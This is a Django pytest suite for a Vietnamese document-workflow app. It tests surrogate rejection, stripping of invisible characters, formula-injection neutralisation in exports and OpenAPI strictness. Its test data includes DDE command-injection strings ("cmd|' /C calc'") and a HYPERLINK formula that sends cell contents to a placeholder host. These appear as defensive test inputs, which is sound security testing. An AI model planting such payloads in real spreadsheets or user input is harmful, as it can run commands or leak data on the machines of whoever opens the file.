"""Input hygiene (issue 9, section 5): lone surrogates refused naming the field, invisible and
bidirectional characters stripped from every text, spreadsheet exports that never turn user text
into a live formula, and an OpenAPI document as strict as the server."""
import csv
import io
import json
import unicodedata

import pytest
from openpyxl import load_workbook

from accounts.models import ApiToken, User
from api.auth import hash_token
from organizations.models import Unit
from tests.helpers.web import client_for, filled_report, opened_report
from workflows import content as doc_content
from workflows.models import AuditEntry, Document, Kind

from tests.helpers.workflow import approve, opened

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x/?"&B3,"Xem")'
# Every character the issue names, between letters of a Vietnamese word.
INVISIBLES = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200c\u200d\ufeff"


def api(client, username, method, path, body=None):
    token = f"input-tests-{username}"
    ApiToken.objects.get_or_create(user=User.objects.get(username=username), key_hash=hash_token(token))
    kwargs = {"HTTP_AUTHORIZATION": f"Bearer {token}"}
    if body is not None:
        # Raw JSON text, so that "\udfff" reaches the server as the escape a client sends.
        kwargs.update(data=body if isinstance(body, str) else json.dumps(body), content_type="application/json")
    return getattr(client, method)(f"/api/v1{path}", **kwargs)


# --- 1. lone surrogates -----------------------------------------------------------------------

@pytest.mark.parametrize(
    "body, field",
    [
        ('{"version": 1, "sections": {"results": "x\\udfff"}}', "sections.results"),
        ('{"version": 1, "sections": {"preamble": "\\ud800 mở đầu"}}', "sections.preamble"),
        ('{"version": 1, "title": "x\\udfff"}', "title"),
        ('{"version": 1, "values": [{"code": "3.2", "value": true, "note": "ghi \\udfff chú"}]}', "values[0].note"),
        ('{"version": 1, "values": [{"code": "3.2", "value": true, "evidence": "\\udfff"}]}', "values[0].evidence"),
        ('{"version": 1, "initiatives": [{"name": "Mô hình \\udfff"}]}', "initiatives[0].name"),
        ('{"version": 1, "initiatives": [{"name": "Mô hình", "note": "\\udfff"}]}', "initiatives[0].note"),
    ],
)
def test_a_lone_surrogate_in_any_text_is_a_400_naming_the_field(client, body, field):
    report = opened_report("tramyte")
    response = api(client, "tramyte", "patch", f"/documents/{report.pk}", body)
    assert response.status_code == 400, response.content
    errors = response.json()["errors"]
    assert field in errors, errors
    assert "Unicode không hợp lệ" in errors[field][0]
    report.refresh_from_db()
    assert report.version == 1  # nothing saved


def test_a_lone_surrogate_in_a_text_target_value_or_a_comment_is_a_400(client):
    report = opened_report("vanphong")  # reports target 2.4, a text value
    text_codes = [t.code for t in report.plan.targets.filter(reporting_units=report.unit, input_kind="text")]
    if text_codes:
        body = '{"version": 1, "values": [{"code": "%s", "value": "\\udfff"}]}' % text_codes[0]
        response = api(client, "vanphong", "patch", f"/documents/{report.pk}", body)
        assert response.status_code == 400 and f"values.{text_codes[0]}" in response.json()["errors"]
    tramyte = opened_report("tramyte")
    response = api(client, "tramyte", "post", f"/documents/{tramyte.pk}/transitions/submit", '{"comment": "ý kiến \\udfff"}')
    assert response.status_code == 400 and "comment" in response.json()["errors"]


def test_the_service_refuses_surrogates_for_every_caller():
    """The web forms and the API share workflows.content.clean_text; it is the one place that checks."""
    from workflows.errors import Invalid
    from workflows.services import perform_transition, update_document

    report = opened_report("tramyte")
    tramyte = User.objects.get(username="tramyte")
    for kwargs, field in (
        ({"sections": {"results": "x\udfff"}}, "sections.results"),
        ({"title": "Báo cáo \ud800"}, "title"),
        ({"initiatives": [{"name": "\udfff"}]}, "initiatives[0].name"),
    ):
        with pytest.raises(Invalid) as raised:
            update_document(report.pk, tramyte, version=1, **kwargs)
        assert field in raised.value.errors
    with pytest.raises(Invalid) as raised:
        perform_transition(report.pk, tramyte, "submit", "\udfff")
    assert "comment" in raised.value.errors


# --- 2. invisible and bidirectional characters ------------------------------------------------

def test_clean_text_strips_invisible_and_bidi_characters_and_stays_nfc():
    cleaned = doc_content.clean_text("Tr" + INVISIBLES + "ạm Y t\u200be\u0302\u0301", "title", 100)
    assert cleaned == "Trạm Y tế"
    assert unicodedata.is_normalized("NFC", cleaned)
    # A character removed between a letter and its accents still leaves composed text.
    assert doc_content.clean_text("e\u200b\u0302\u0301", "x", 10) == "ế"


def test_invisible_characters_are_stripped_from_every_field_through_the_api(client):
    report = opened_report("tramyte")
    body = {
        "version": 1,
        "title": "Báo cáo \u202eTrạm\u202c Y tế",
        "sections": {"results": "Kết\u2066 quả\u2069 tốt\ufeff", "proposals": "Đề\u200b xuất"},
        "values": [{"code": "3.2", "value": True, "note": "ghi\u200d chú", "evidence": "biên\u200c bản"}, {"code": "4.1", "value": True}],
        "initiatives": [{"name": "Trạm\u202d xanh", "kind": "Khác", "note": "\u2067ghi chú"}],
    }
    response = api(client, "tramyte", "patch", f"/documents/{report.pk}", body)
    assert response.status_code == 200, response.content
    report.refresh_from_db()
    assert report.title == "Báo cáo Trạm Y tế"
    assert report.content["sections"]["results"] == "Kết quả tốt"
    assert report.content["sections"]["proposals"] == "Đề xuất"
    assert report.content["values"]["3.2"]["note"] == "ghi chú"
    assert report.content["values"]["3.2"]["evidence"] == "biên bản"
    assert report.content["initiatives"] == [{"name": "Trạm xanh", "kind": "Khác", "note": "ghi chú"}]

    response = api(client, "tramyte", "post", f"/documents/{report.pk}/transitions/submit", {"comment": "Xin\u202e trình"})
    assert response.status_code == 200, response.content
    assert AuditEntry.objects.filter(document=report, transition="submit").get().comment == "Xin trình"


def test_invisible_characters_are_stripped_from_the_web_form():
    report = opened_report("tramyte")
    unit = client_for("tramyte")
    data = filled_report(unit, report, **{"section-results": "Triển\u202e khai\u200b tốt", "title": "\u2066Báo cáo\u2069", "initiative-0-name": "Mô\ufeff hình"})
    assert unit.post(f"/van-ban/{report.pk}/sua/", data).status_code == 302
    report.refresh_from_db()
    assert report.content["sections"]["results"] == "Triển khai tốt"
    assert report.title == "Báo cáo"
    assert report.content["initiatives"][0]["name"] == "Mô hình"


# --- 3. spreadsheet exports ---------------------------------------------------------------------

def _workbook(response):
    assert response.status_code == 200, response.content[:300]
    return load_workbook(io.BytesIO(response.getvalue()))


def _cells_with(workbook, text):
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == text]


def _assert_text_not_formula(workbook, text=FORMULA):
    cells = _cells_with(workbook, text)
    assert cells, f"{text!r} is not in the workbook"
    for cell in cells:
        assert cell.data_type == "s", f"{cell.coordinate} is {cell.data_type!r}, a live formula"


def _issue_plan_titled(title):
    from workflows.services import perform_transition, update_document

    plan = Document.objects.get(kind=Kind.PLAN)
    update_document(plan.pk, User.objects.get(username="vhxh"), version=plan.version, title=title)
    for username, name in (("vhxh", "submit"), ("vanphong", "start_review"), ("vanphong", "approve"), ("pct", "sign"), ("vanthu", "issue")):
        perform_transition(plan.pk, User.objects.get(username=username), name)
    plan.refresh_from_db()
    return plan


def test_register_exports_write_a_formula_like_title_as_text():
    plan = _issue_plan_titled(FORMULA)
    assert plan.title == FORMULA  # stored as typed
    vanthu = client_for("vanthu")
    year = plan.issued_on.year
    workbook = _workbook(vanthu.get(f"/van-thu/so-van-ban-di/tai-ve/?nam={year}"))
    _assert_text_not_formula(workbook)
    number_cell = _cells_with(workbook, plan.number_label)[0]
    assert number_cell.data_type == "s"

    text = vanthu.get(f"/van-thu/so-van-ban-di/tai-ve/?nam={year}&dinh-dang=csv").getvalue().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    excerpt = rows[1][3]
    assert excerpt == "'" + FORMULA  # OWASP: a leading apostrophe keeps it text
    assert rows[1][0] == plan.number_label  # ordinary text unchanged


# (A leading tab cannot reach a title: titles are trimmed; the helper test covers it.)
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_every_formula_start_is_neutralised_in_the_register_csv(start):
    plan = _issue_plan_titled(f"{start}1+cmd|' /C calc'!A0")
    text = client_for("vanthu").get(f"/van-thu/so-van-ban-di/tai-ve/?nam={plan.issued_on.year}&dinh-dang=csv").getvalue().decode("utf-8-sig")
    excerpt = list(csv.reader(io.StringIO(text)))[1][3]
    assert excerpt.startswith("'")


def test_dashboard_and_evaluation_exports_write_a_formula_like_unit_name_as_text():
    Unit.objects.filter(code="xom-01").update(name=FORMULA)  # what an administrator might type
    h1 = opened()
    approve(h1, "xom-01", values={"1.3": 95, "4.2": 1})
    vhxh = client_for("vhxh")
    status = _workbook(vhxh.get("/theo-doi/tai-ve/?ky=2026-H1"))
    _assert_text_not_formula(status)
    # Numbers stay numbers: the STT column and the number of returns.
    sheet = status.worksheets[0]
    assert sheet["A2"].data_type == "n" and sheet["A2"].value == 1

    evaluation = _workbook(vhxh.get("/theo-doi/danh-gia/?nam=2026&dinh-dang=xlsx"))
    _assert_text_not_formula(evaluation)
    assert evaluation.worksheets[0]["C2"].data_type == "n"  # the score


def test_api_exports_write_formula_like_text_as_text(client):
    Unit.objects.filter(code="xom-02").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    h1 = opened()
    approve(h1, "xom-01", values={"1.3": 92.5})
    approve(h1, "xom-02", values={"1.3": 90})
    created = api(client, "vhxh", "post", "/documents", {"kind": "summary_report", "period": "2026-H1"})
    assert created.status_code == 201, created.content
    summary = created.json()
    patched = api(client, "vhxh", "patch", f"/documents/{summary['id']}", {"version": summary["version"], "title": FORMULA})
    assert patched.status_code == 200, patched.content
    assert api(client, "vhxh", "post", f"/documents/{summary['id']}/compile").status_code == 200

    compiled = _workbook(api(client, "vhxh", "get", f"/documents/{summary['id']}/compiled/xlsx"))
    _assert_text_not_formula(compiled)
    figures = compiled.worksheets[0]
    row = next(r for r in figures.iter_rows(min_row=2) if r[0].value == "1.3")
    assert row[3].data_type == "n"  # the compiled percentage stays a number
    assert any(c.data_type == "s" and "@SUM" in str(c.value) for c in row)

    _assert_text_not_formula(_workbook(api(client, "vanthu", "get", "/periods/2026-H1/status/xlsx")), "@SUM(1+1)*cmd|' /C calc'!A0")
    _assert_text_not_formula(_workbook(api(client, "pct", "get", "/evaluations/2026/xlsx")), "@SUM(1+1)*cmd|' /C calc'!A0")


def test_the_spreadsheet_helper_keeps_numbers_and_marks_formula_text():
    from openpyxl import Workbook

    from documents.spreadsheets import append_row, csv_value

    sheet = Workbook().active
    append_row(sheet, [FORMULA, -5, 2.5, "-5", "bình thường", None])
    cells = sheet[1]
    assert [c.data_type for c in cells[:5]] == ["s", "n", "n", "s", "s"]
    assert cells[0].quotePrefix and cells[3].quotePrefix and not cells[4].quotePrefix
    assert csv_value(-5) == -5 and csv_value("-5") == "'-5" and csv_value("Văn bản") == "Văn bản"
    assert csv_value("\t=1+1") == "'\t=1+1" and csv_value("\r=1") == "'\r=1"


# --- 4. the OpenAPI document is as strict as the server ----------------------------------------

def test_openapi_limits_match_the_server(client):
    schemas = client.get("/api/v1/openapi.json").json()["components"]["schemas"]
    sections = schemas["SectionsIn"]
    assert sections["additionalProperties"] is False
    all_keys = {key for items in doc_content.SECTIONS.values() for key, _, _ in items}
    assert set(sections["properties"]) == all_keys
    assert all(p["maxLength"] == doc_content.MAX_SECTION for p in sections["properties"].values())
    assert schemas["TransitionIn"]["properties"]["comment"]["maxLength"] == doc_content.MAX_COMMENT
    patch = schemas["DocumentPatchIn"]["properties"]
    assert patch["title"]["anyOf"][0]["maxLength"] == doc_content.MAX_TITLE
    assert schemas["ValueIn"]["properties"]["note"]["anyOf"][0]["maxLength"] == doc_content.MAX_NOTE
    assert schemas["ValueIn"]["properties"]["evidence"]["anyOf"][0]["maxLength"] == doc_content.MAX_EVIDENCE
    assert schemas["InitiativeIn"]["properties"]["name"]["maxLength"] == doc_content.MAX_INITIATIVE_NAME
    # The request shapes are the content model's fields: every field, the same limits.
    for name, model in (("ValueIn", doc_content.TargetEntry), ("InitiativeIn", doc_content.Initiative)):
        properties = schemas[name]["properties"]
        assert set(model.model_fields) <= set(properties)
        for field, info in model.model_fields.items():
            if info.annotation is str:
                shape = properties[field].get("anyOf", [properties[field]])[0]
                assert shape["maxLength"] == doc_content.limit(model, field), (name, field)
    assert patch["initiatives"]["anyOf"][0]["maxItems"] == doc_content.limit(doc_content.UnitReportContent, "initiatives")
    period_pattern = schemas["DocumentCreateIn"]["properties"]["period"]["anyOf"][0]["pattern"]
    import re

    assert re.match(period_pattern, "2026-H1") and re.match(period_pattern, "2030-TK")
    assert not re.match(period_pattern, "2026-X9") and not re.match(period_pattern, "abc")


def test_requests_outside_the_schema_are_refused_by_the_schema(client):
    report = opened_report("tramyte")
    response = api(client, "tramyte", "patch", f"/documents/{report.pk}", {"version": 1, "sections": {"khong-co": "x"}})
    assert response.status_code == 400 and "sections.khong-co" in response.json()["errors"]
    response = api(client, "tramyte", "post", f"/documents/{report.pk}/transitions/submit", {"comment": "a" * (doc_content.MAX_COMMENT + 1)})
    assert response.status_code == 400 and response.json()["errors"]["comment"] == [f"Tối đa {doc_content.MAX_COMMENT} ký tự."]
    response = api(client, "tramyte", "post", "/documents", {"kind": "unit_report", "period": "2026-X1"})
    assert response.status_code == 400 and "period" in response.json()["errors"]


def test_decomposed_text_within_the_limit_once_composed_is_accepted(client):
    report = opened_report("tramyte")
    section = unicodedata.normalize("NFD", "ệ" * 100)
    response = api(client, "tramyte", "patch", f"/documents/{report.pk}", {"version": 1, "sections": {"results": section}})
    assert response.status_code == 200, response.content
    comment = unicodedata.normalize("NFD", "ế" * doc_content.MAX_COMMENT)  # 3 code points each before NFC
    assert len(comment) > doc_content.MAX_COMMENT
    response = api(client, "tramyte", "post", f"/documents/{report.pk}/transitions/withdraw", {"comment": comment})
    # Refused for its state (409), not for the comment's length (400).
    assert response.status_code == 409, response.content
